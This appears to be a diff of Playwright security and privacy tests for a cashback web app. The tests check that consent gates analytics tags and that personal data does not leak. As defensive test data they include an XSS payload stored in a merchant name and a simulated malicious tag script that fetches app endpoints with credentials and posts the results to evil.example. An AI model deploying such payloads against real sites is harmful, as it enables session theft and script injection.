@@ -2,8 +2,8 @@ import { createHash, randomUUID } from 'node:crypto';
 import type { APIRequestContext, Page } from '@playwright/test';
 import { expectAccessible } from '../src/axe.ts';
 import { asOwner } from '../src/database.ts';
-import { expect, newPhone, type Shop, test } from '../src/shop.ts';
-import { findSecrets, standInForTags } from '../src/tag-stand-ins.ts';
+import { findSecrets, openFakeTags } from '../src/fake-tags.ts';
+import { expect, type Merchant, newPhone, test } from '../src/merchant.ts';
 
 const SAME_ORIGIN = { 'sec-fetch-site': 'same-origin' };
 const GTM_ID = 'GTM-ABC1234';
@@ -11,15 +11,15 @@ const PIXEL_ID = '123456789012345';
 const CUSTOMER = 'Jurandir Teixeira';
 
 /** The counter, by calls; what it shows is another journey's matter. */
-async function openTill(request: APIRequestContext, shop: Shop) {
+async function openCounterApi(request: APIRequestContext, merchant: Merchant) {
   const call = async (path: string, data: object) => {
     const answer = await request.post(`/trpc/${path}`, { headers: SAME_ORIGIN, data });
     expect(answer.status(), await answer.text()).toBe(200);
     return ((await answer.json()) as { result: { data: Record<string, unknown> } }).result.data;
   };
-  await call('auth.login', { email: shop.email, password: shop.password });
+  await call('auth.login', { email: merchant.email, password: merchant.password });
   await asOwner('UPDATE merchants SET gtm_id = $2, meta_pixel_id = $3 WHERE signup_link_slug = $1', [
-    shop.slug,
+    merchant.slug,
     GTM_ID,
     PIXEL_ID,
   ]);
@@ -30,7 +30,7 @@ async function openTill(request: APIRequestContext, shop: Shop) {
       const [customer] = await asOwner<{ id: string; merchant_id: string }>(
         `SELECT c.id, c.merchant_id FROM customers c JOIN merchants m ON m.id = c.merchant_id
          WHERE c.phone = $1 AND m.signup_link_slug = $2`,
-        [phone, shop.slug],
+        [phone, merchant.slug],
       );
       const input = { operationId: randomUUID(), customerId: customer?.id, amountCents };
       return String((await call('redemptions.create', input)).link);
@@ -41,7 +41,7 @@ async function openTill(request: APIRequestContext, shop: Shop) {
 /** The part of a code's link that nobody may guess. */
 const tokenIn = (link: string) => link.slice(link.indexOf('_') + 1);
 const hashOf = (phone: string) => createHash('sha256').update(`+55${phone}`).digest('hex');
-const ownOrigin = (shop: Shop) => `http://${shop.slug}.localhost:${process.env.JOURNEYS_PORT}`;
+const ownOrigin = (merchant: Merchant) => `http://${merchant.slug}.localhost:${process.env.JOURNEYS_PORT}`;
 const banner = (page: Page) => page.getByRole('region', { name: 'Privacidade' });
 const answer = (page: Page, name: 'Aceitar' | 'Recusar') =>
   banner(page).getByRole('button', { name }).click();
@@ -49,59 +49,59 @@ const answer = (page: Page, name: 'Aceitar' | 'Recusar') =>
 /** Long enough for anything that runs when the page is idle, and for what that asks for. */
 const settle = (page: Page) => page.waitForTimeout(800);
 
-test('a code is opened on the shop’s own host: nothing before consent, then each event once, and nobody in any of them', async ({
+test('a code is opened on the merchant’s own host: nothing before consent, then each event once, and nobody in any of them', async ({
   phone: page,
   request,
-  shop,
+  merchant,
 }) => {
-  const world = await standInForTags(page.context());
+  const fakeTags = await openFakeTags(page.context());
   const number = newPhone();
-  const till = await openTill(request, shop);
-  const link = await till.sell(number, 12_345);
+  const counterApi = await openCounterApi(request, merchant);
+  const link = await counterApi.sell(number, 12_345);
   const { pathname } = new URL(link);
-  expect(new URL(link).origin).toBe(ownOrigin(shop));
+  expect(new URL(link).origin).toBe(ownOrigin(merchant));
   const secrets = { phone: number, others: [tokenIn(link), CUSTOMER] };
 
   await page.goto(pathname);
   await expect(page.getByText('Parabéns!')).toBeVisible();
   await expect(page).toHaveURL(link);
-  await expect(banner(page)).toContainText(`${shop.name} pede sua permissão`);
+  await expect(banner(page)).toContainText(`${merchant.name} pede sua permissão`);
   await settle(page);
-  expect(world.sent).toEqual([]);
+  expect(fakeTags.sent).toEqual([]);
   await expectAccessible(page, 'consent asked for');
 
   await answer(page, 'Aceitar');
-  await expect.poll(world.events).toContain('Purchase');
-  await expect(page).toHaveURL(`${ownOrigin(shop)}/customer/cashback`);
+  await expect.poll(fakeTags.events).toContain('Purchase');
+  await expect(page).toHaveURL(`${ownOrigin(merchant)}/customer/cashback`);
   await expectAccessible(page, 'consent given');
   const purposes = (state: string) =>
     Object.fromEntries(
       ['ad_storage', 'ad_user_data', 'ad_personalization', 'analytics_storage'].map((name) => [name, state]),
     );
-  expect(world.dataLayer().slice(0, 2)).toEqual([
+  expect(fakeTags.dataLayer().slice(0, 2)).toEqual([
     ['consent', 'default', purposes('denied')],
     ['consent', 'update', purposes('granted')],
   ]);
-  const [merchant] = await asOwner<{ id: string }>('SELECT id FROM merchants WHERE signup_link_slug = $1', [
-    shop.slug,
+  const [row] = await asOwner<{ id: string }>('SELECT id FROM merchants WHERE signup_link_slug = $1', [
+    merchant.slug,
   ]);
   const [sale] = await asOwner<{ id: string }>(
     'SELECT id FROM transactions WHERE merchant_id = $1 ORDER BY created_at DESC',
-    [merchant?.id],
+    [row?.id],
   );
-  const common = { merchantId: merchant?.id, customerPhone: hashOf(number) };
+  const common = { merchantId: row?.id, customerPhone: hashOf(number) };
   const amounts = { ...common, amount: 123.45, cashbackAmount: 6.17 };
   const event = (name: string) => ({ event: name, ...amounts, eventId: `${name}-${sale?.id}` });
   const isOurs = (item: unknown) => !/^gtm\./.test((item as { event?: string }).event ?? 'gtm.');
-  expect(world.dataLayer().filter(isOurs)).toEqual([
-    { event: 'PageView', merchantId: merchant?.id, screen: 'cashback', eventId: expect.any(String) },
+  expect(fakeTags.dataLayer().filter(isOurs)).toEqual([
+    { event: 'PageView', merchantId: row?.id, screen: 'cashback', eventId: expect.any(String) },
     event('CashbackGenerated'),
     event('CashbackScanned'),
     { ...event('Purchase'), currency: 'BRL' },
   ]);
-  await expect.poll(() => world.pixelCalls().length).toBe(7);
+  await expect.poll(() => fakeTags.pixelCalls().length).toBe(7);
   const value = { value: 123.45, currency: 'BRL' };
-  expect(world.pixelCalls()).toEqual([
+  expect(fakeTags.pixelCalls()).toEqual([
     ['consent', 'revoke'],
     ['set', 'autoConfig', false, PIXEL_ID],
     ['init', PIXEL_ID],
@@ -117,50 +117,52 @@ test('a code is opened on the shop’s own host: nothing before consent, then ea
   ]);
   // What a container adds itself runs too: files from wherever, and custom HTML by the page's nonce.
   for (const name of ['from-the-container.js', 'custom-html'])
-    expect(world.sent.map(({ url }) => url)).toContain(`https://tags.example/${name}`);
+    expect(fakeTags.sent.map(({ url }) => url)).toContain(`https://tags.example/${name}`);
 
   await test.step('a reload shows the same and tells nothing twice', async () => {
-    world.forget();
+    fakeTags.forget();
     await page.reload();
     await expect(page.getByText('Parabéns!')).toBeVisible();
-    await expect.poll(world.events).toContain('PageView');
+    await expect.poll(fakeTags.events).toContain('PageView');
     await settle(page);
-    expect(world.dataLayer().filter(isOurs)).toHaveLength(1);
+    expect(fakeTags.dataLayer().filter(isOurs)).toHaveLength(1);
   });
 
   await test.step('the balance follows as a page of its own, back and forward find their screens again', async () => {
     await page.getByRole('link', { name: 'Ver Meu Saldo Completo' }).click();
     await expect(page.getByText('Histórico de Cashback')).toBeVisible();
-    await expect(page).toHaveURL(`${ownOrigin(shop)}/customer/dashboard?loja=${shop.slug}`);
-    await expect.poll(world.events).toContain('CustomerLogin');
-    expect(world.dataLayer()).toContainEqual({
+    await expect(page).toHaveURL(`${ownOrigin(merchant)}/customer/dashboard?loja=${merchant.slug}`);
+    await expect.poll(fakeTags.events).toContain('CustomerLogin');
+    expect(fakeTags.dataLayer()).toContainEqual({
       event: 'CustomerLogin',
       ...common,
-      merchantName: shop.name,
+      merchantName: merchant.name,
       eventId: expect.any(String),
     });
     await page.goBack();
     await expect(page.getByText('Parabéns!')).toBeVisible();
-    await expect(page).toHaveURL(`${ownOrigin(shop)}/customer/cashback`);
+    await expect(page).toHaveURL(`${ownOrigin(merchant)}/customer/cashback`);
     await page.goForward();
     await expect(page.getByText('Histórico de Cashback')).toBeVisible();
-    await expect(page).toHaveURL(`${ownOrigin(shop)}/customer/dashboard?loja=${shop.slug}`);
+    await expect(page).toHaveURL(`${ownOrigin(merchant)}/customer/dashboard?loja=${merchant.slug}`);
     await settle(page);
-    expect(world.events().filter((name) => name.startsWith('Cashback') || name === 'Purchase')).toEqual([]);
+    expect(fakeTags.events().filter((name) => name.startsWith('Cashback') || name === 'Purchase')).toEqual(
+      [],
+    );
   });
 
   await test.step('a redemption is told when it was made and completed', async () => {
-    world.forget();
-    const redemption = await till.redeem(number, 510);
+    fakeTags.forget();
+    const redemption = await counterApi.redeem(number, 510);
     secrets.others.push(tokenIn(redemption));
     await page.goto(redemption);
     await expect(page.getByText('Resgate Confirmado!')).toBeVisible();
-    await expect.poll(world.events).toContain('RedemptionCompleted');
+    await expect.poll(fakeTags.events).toContain('RedemptionCompleted');
     for (const name of ['RedemptionGenerated', 'RedemptionCompleted']) {
       const redeemed = { event: name, ...common, amount: 5.1, currency: 'BRL', eventId: expect.any(String) };
-      expect(world.dataLayer()).toContainEqual(redeemed);
+      expect(fakeTags.dataLayer()).toContainEqual(redeemed);
     }
-    await expect.poll(() => world.pixelCalls().map(([, name]) => name)).toContain('InitiateCheckout');
+    await expect.poll(() => fakeTags.pixelCalls().map(([, name]) => name)).toContain('InitiateCheckout');
   });
 
   await test.step('who takes it back is told of no more, neither now nor after a reload', async () => {
@@ -169,29 +171,29 @@ test('a code is opened on the shop’s own host: nothing before consent, then ea
     await expect(banner(page)).toContainText('Você tinha aceitado.');
     await answer(page, 'Recusar');
     await expect(banner(page).getByRole('button', { name: 'Privacidade' })).toBeFocused();
-    await expect.poll(world.dataLayer).toContainEqual(['consent', 'update', purposes('denied')]);
-    await expect.poll(world.pixelCalls).toContainEqual(['consent', 'revoke']);
-    expect(findSecrets(world, secrets)).toEqual([]);
-    world.forget();
+    await expect.poll(fakeTags.dataLayer).toContainEqual(['consent', 'update', purposes('denied')]);
+    await expect.poll(fakeTags.pixelCalls).toContainEqual(['consent', 'revoke']);
+    expect(findSecrets(fakeTags, secrets)).toEqual([]);
+    fakeTags.forget();
     await page.reload();
     await expect(page.getByText('Resgate Confirmado!')).toBeVisible();
     await settle(page);
-    expect(world.sent).toEqual([]);
+    expect(fakeTags.sent).toEqual([]);
   });
 });
 
 test('who refuses is asked no more and reported nowhere; who signs up is told apart from who comes back, by no name', async ({
   phone: page,
   request,
-  shop,
+  merchant,
 }) => {
-  const world = await standInForTags(page.context());
-  await openTill(request, shop);
+  const fakeTags = await openFakeTags(page.context());
+  await openCounterApi(request, merchant);
   // The forms refuse such a name; a row from elsewhere may hold it.
   const hostile = `</script><img src=x onerror="window.hacked=1">'"\\`;
-  await asOwner('UPDATE merchants SET name = $2 WHERE signup_link_slug = $1', [shop.slug, hostile]);
+  await asOwner('UPDATE merchants SET name = $2 WHERE signup_link_slug = $1', [merchant.slug, hostile]);
   const number = newPhone();
-  const signup = `${ownOrigin(shop)}/signup/${shop.slug}`;
+  const signup = `${ownOrigin(merchant)}/signup/${merchant.slug}`;
   const signUp = async () => {
     await page.goto(signup);
     await page.getByLabel('Nome Completo').fill(CUSTOMER);
@@ -207,20 +209,20 @@ test('who refuses is asked no more and reported nowhere; who signs up is told ap
   await expect(page.getByRole('button', { name: 'Cadastrar e Começar' })).toBeVisible();
   await expect(banner(page).getByRole('button')).toHaveText(['Privacidade']);
   await settle(page);
-  expect(world.sent).toEqual([]);
+  expect(fakeTags.sent).toEqual([]);
 
   await banner(page).getByRole('button', { name: 'Privacidade' }).press('Enter');
   await expectAccessible(page, 'consent asked for again');
   await page.getByRole('button', { name: 'Aceitar' }).press('Enter');
-  await expect.poll(world.events).toContain('PageView');
+  await expect.poll(fakeTags.events).toContain('PageView');
   await signUp();
-  await expect(page).toHaveURL(`${ownOrigin(shop)}/customer/dashboard?loja=${shop.slug}`);
-  await expect.poll(world.events).toContain('CustomerSignup');
+  await expect(page).toHaveURL(`${ownOrigin(merchant)}/customer/dashboard?loja=${merchant.slug}`);
+  await expect.poll(fakeTags.events).toContain('CustomerSignup');
   const [customer] = await asOwner<{ id: string; merchant_id: string }>(
     'SELECT id, merchant_id FROM customers WHERE phone = $1',
     [number],
   );
-  expect(world.dataLayer()).toContainEqual({
+  expect(fakeTags.dataLayer()).toContainEqual({
     event: 'CustomerSignup',
     merchantId: customer?.merchant_id,
     customerId: customer?.id,
@@ -228,49 +230,49 @@ test('who refuses is asked no more and reported nowhere; who signs up is told ap
     signup_source: 'merchant_link',
     eventId: expect.any(String),
   });
-  await expect.poll(() => world.pixelCalls().map(([, name]) => name)).toContain('CompleteRegistration');
-  expect(world.events()).not.toContain('CustomerLogin');
-  world.forget();
+  await expect.poll(() => fakeTags.pixelCalls().map(([, name]) => name)).toContain('CompleteRegistration');
+  expect(fakeTags.events()).not.toContain('CustomerLogin');
+  fakeTags.forget();
   await signUp();
-  await expect.poll(world.events).toContain('CustomerLogin');
-  expect(world.events()).not.toContain('CustomerSignup');
-  expect(world.dataLayer()).toContainEqual(expect.objectContaining({ merchantName: hostile }));
+  await expect.poll(fakeTags.events).toContain('CustomerLogin');
+  expect(fakeTags.events()).not.toContain('CustomerSignup');
+  expect(fakeTags.dataLayer()).toContainEqual(expect.objectContaining({ merchantName: hostile }));
   expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
-  expect(findSecrets(world, { phone: number, others: [CUSTOMER, 'Jurandir', 'Teixeira'] })).toEqual([]);
+  expect(findSecrets(fakeTags, { phone: number, others: [CUSTOMER, 'Jurandir', 'Teixeira'] })).toEqual([]);
 });
 
 test('tags that hang, are missing or break hold nothing up, and what they were not told waits for a page that can tell them', async ({
   phone: page,
   request,
-  shop,
+  merchant,
 }) => {
-  const world = await standInForTags(page.context());
-  const till = await openTill(request, shop);
+  const fakeTags = await openFakeTags(page.context());
+  const counterApi = await openCounterApi(request, merchant);
   await page.addInitScript(() => localStorage.setItem('consentimento-tags', 'granted'));
   const links: string[] = [];
   for (const how of ['hanging', 'missing', 'throwing'] as const) {
-    world.answerScripts(how);
-    world.forget();
-    const link = await till.sell(newPhone(), 10_000);
+    fakeTags.answerScripts(how);
+    fakeTags.forget();
+    const link = await counterApi.sell(newPhone(), 10_000);
     links.push(link);
     await page.goto(link, { waitUntil: 'commit' });
     await expect(page.getByText('Parabéns!'), how).toBeVisible();
-    await expect.poll(() => world.sent.length, how).toBe(2);
+    await expect.poll(() => fakeTags.sent.length, how).toBe(2);
     await page.getByRole('link', { name: 'Ver Meu Saldo Completo' }).click();
     await expect(page.getByText('Histórico de Cashback'), how).toBeVisible();
     if (how === 'throwing') continue;
     const told = await asOwner(
       `SELECT event FROM tag_deliveries d JOIN merchants m ON m.id = d.merchant_id WHERE m.signup_link_slug = $1`,
-      [shop.slug],
+      [merchant.slug],
     );
     expect(told, how).toEqual([]);
   }
-  world.answerScripts('well');
+  fakeTags.answerScripts('well');
   await page.goto(links[0] ?? '');
-  await expect.poll(world.events).toContain('Purchase');
+  await expect.poll(fakeTags.events).toContain('Purchase');
 });
 
-/** What a container of a shop that means harm would try; the answers go to where it could read them. */
+/** What a container of a merchant that means harm would try; the answers go to where it could read them. */
 const attack = (app: string) => `
   const tell = (what, answer) => fetch('https://evil.example/?' + what, { method: 'POST', body: String(answer) }).catch(() => {});
   const call = (what, address, init) => fetch(address, { credentials: 'include', ...init })
@@ -296,16 +298,16 @@ test.describe('without the help of the page’s own policy, which keeps it from 
   test('a container that means harm gets nothing of a member of staff in the same browser', async ({
     page: counter,
     request,
-    shop,
+    merchant,
     baseURL,
   }) => {
     const app = baseURL ?? '';
     // The same browser, and so the same cookies.
-    const till = await openTill(counter.request, shop);
-    const link = await till.sell(newPhone(), 10_000);
+    const counterApi = await openCounterApi(counter.request, merchant);
+    const link = await counterApi.sell(newPhone(), 10_000);
     const context = counter.context();
     expect((await context.cookies(app)).map(({ name }) => name)).toContain('session');
-    const world = await standInForTags(context, attack(app));
+    const fakeTags = await openFakeTags(context, attack(app));
     const page = await context.newPage();
     const cookies: string[] = [];
     page.on('request', async (sent) => {
@@ -316,7 +318,7 @@ test.describe('without the help of the page’s own policy, which keeps it from 
     await answer(page, 'Aceitar');
     const told = () =>
       Object.fromEntries(
-        world.sent.flatMap(({ url, body }) =>
+        fakeTags.sent.flatMap(({ url, body }) =>
           url.startsWith('https://evil.example/?') ? [[url.split('?')[1], body]] : [],
         ),
       );
@@ -325,8 +327,9 @@ test.describe('without the help of the page’s own policy, which keeps it from 
     expect(told()).toEqual({
       session: 'refused',
       issue: 'refused',
-      blind: expect.stringMatching(/^opaque 0/),
-      page: expect.stringMatching(/^opaque 0/),
+      // Cross-Origin-Resource-Policy: what is no page of its own origin does not even get an opaque answer.
+      blind: 'refused',
+      page: 'refused',
       'own-session': notFound,
       'own-issue': notFound,
       'own-file': expect.stringMatching(/^basic 404 /),
@@ -336,7 +339,7 @@ test.describe('without the help of the page’s own policy, which keeps it from 
     expect(cookies.filter((each) => each.includes('session'))).toEqual([]);
     const sales = await asOwner(
       'SELECT t.amount_cents FROM transactions t JOIN merchants m ON m.id = t.merchant_id WHERE m.signup_link_slug = $1',
-      [shop.slug],
+      [merchant.slug],
     );
     expect(sales).toHaveLength(1);
 
